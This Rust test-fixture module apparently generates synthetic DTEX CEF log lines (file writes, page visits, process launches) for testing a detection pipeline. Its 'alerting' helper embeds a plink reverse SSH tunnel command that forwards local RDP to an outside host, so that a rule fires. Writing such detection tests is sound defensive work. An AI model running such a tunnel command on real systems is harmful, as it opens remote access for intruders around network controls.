//! Single records, as a collector writes them.

use std::fs::File;
use std::io::{BufWriter, Write};
use std::path::Path;

pub const DAY_MS: i64 = 86_400_000;

/// 2026-03-02T09:00:00Z, a Monday.
pub const MONDAY: i64 = 1_772_442_000_000;

/// A file write by a process in the user's temporary directory: trains a model.
pub fn temp_write(ms: i64, user: &str, process: &str) -> String {
    let who = format!("start={ms} Device_Name=CORP\\H{user} User_Name=CORP\\{user}");
    format!(
        "CEF:0|Dtex|DTEX InTERCEPT|6.0|FileCreated|C:\\d\\a.txt (10 bytes)|3|{who} Process_Name={process} Process_Directory=C:\\Users\\{user}\\Temp\n"
    )
}

/// A visit of a page.
pub fn visit(ms: i64, user: &str, domain: &str) -> String {
    format!(
        "CEF:0|Dtex|DTEX InTERCEPT|6.0|WebPageAccessed|x|3|start={ms} Device_Name=CORP\\H{user} User_Name=CORP\\{user} User_Department=Sales Website_Query=https://{domain}/x\n"
    )
}

/// A process, by its command line.
pub fn process(ms: i64, user: &str, command: &str) -> String {
    let name = command.split(' ').next().unwrap();
    format!(
        "CEF:0|Dtex|DTEX InTERCEPT|6.0|ProcessCreated|Running C:\\t\\{name}|5|start={ms} Device_Name=CORP\\H{user} User_Name=CORP\\{user} Process_Name={name} reason={command}\n"
    )
}

/// One rule fires on it, for whichever user.
pub fn alerting(ms: i64, user: &str) -> String {
    process(ms, user, "plink.exe -ssh -R 4444:127.0.0.1:3389 u@203.0.113.9")
}

/// A file of such records.
pub fn write_lines(path: &Path, lines: impl Iterator<Item = String>) {
    let mut out = BufWriter::new(File::create(path).unwrap());
    lines.for_each(|line| out.write_all(line.as_bytes()).unwrap());
    out.flush().unwrap();
}
